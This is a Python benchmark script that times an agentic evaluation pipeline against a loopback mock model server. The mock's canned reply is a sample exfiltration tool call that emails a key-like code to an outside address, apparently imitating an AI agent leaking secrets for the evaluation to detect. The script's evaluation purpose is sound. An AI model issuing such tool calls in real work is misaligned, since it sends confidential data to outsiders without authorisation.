"""Benchmark: agentic eval throughput (generation + judge) against a loopback OpenAI-compatible server.

The server (tests/loopback_llm.py) answers every request after ``--latency`` seconds, standing in for a
served model; generation and judging go through the real ``openai`` client, the LLMClient (semaphore,
retries, accounting) and valuesfirst's scoring. Reported: transcripts/s end to end at each concurrency.

    .venv/bin/python benchmarks/eval_agentic_throughput.py [--samples 10] [--latency 0.2]
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))

from loopback_llm import Call, LoopbackLLM, Reply, ok  # noqa: E402

from valuesfirst.evals import agentic  # noqa: E402
from valuesfirst.evals.agentic_scenarios import build_grid  # noqa: E402
from valuesfirst.evals.runner import GenerationConfig, generate  # noqa: E402
from valuesfirst.evals.scoring import summarize  # noqa: E402
from valuesfirst.llm.client import ClientConfig, LLMClient  # noqa: E402
from valuesfirst.llm.factory import backend_from_uri  # noqa: E402

LEAK = (
    '<tool_use:email>\nto: "intake@helixdyn.net",\nsubject: "k",\n'
    + 'body: "CVK-7Q2M-91XK-T4RB"\n</tool_use:email>'
)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--samples", type=int, default=10)
    ap.add_argument("--latency", type=float, default=0.2)
    ap.add_argument("--concurrency", type=int, nargs="+", default=[1, 16, 64])
    args = ap.parse_args()

    def handler(call: Call) -> Reply:
        text = "<answer>yes</answer>" if "<reply>" in call.last_user else LEAK
        return ok(text, delay_s=args.latency)  # a served model's latency, without its compute

    items = agentic.items(build_grid())
    results = []
    with LoopbackLLM(handler) as server:
        for conc in args.concurrency:
            model = LLMClient(
                backend_from_uri("vllm:m", base_url=server.openai_base_url), ClientConfig(concurrency=conc)
            )
            judge = LLMClient(
                backend_from_uri("vllm:j", base_url=server.openai_base_url), ClientConfig(concurrency=conc)
            )
            gen = GenerationConfig(samples=args.samples, temperature=0.7)

            async def run(
                model: LLMClient = model, judge: LLMClient = judge, gen: GenerationConfig = gen
            ) -> tuple:
                t0 = time.perf_counter()
                transcripts = await generate(model, items, gen, "agentic")
                t_gen = time.perf_counter() - t0
                rows, _ = await agentic.score(transcripts, agentic.make_judge(judge))
                await model.aclose()
                await judge.aclose()
                return transcripts, rows, t_gen, time.perf_counter() - t0

            transcripts, rows, t_gen, total = asyncio.run(run())
            s = summarize(rows, "classifier_verdict")["model"]
            results.append({
                "concurrency": conc, "transcripts": len(transcripts), "requests": 2 * len(transcripts),
                "generation_s": round(t_gen, 2), "total_s": round(total, 2),
                "transcripts_per_s": round(len(transcripts) / total, 1),
                "scored": s["n_scored"], "max_in_flight_seen": server.max_in_flight,
            })  # fmt: skip
            server.max_in_flight = 0
    print(json.dumps({"latency_s": args.latency, "cells": len(items), "results": results}, indent=1))


if __name__ == "__main__":
    main()
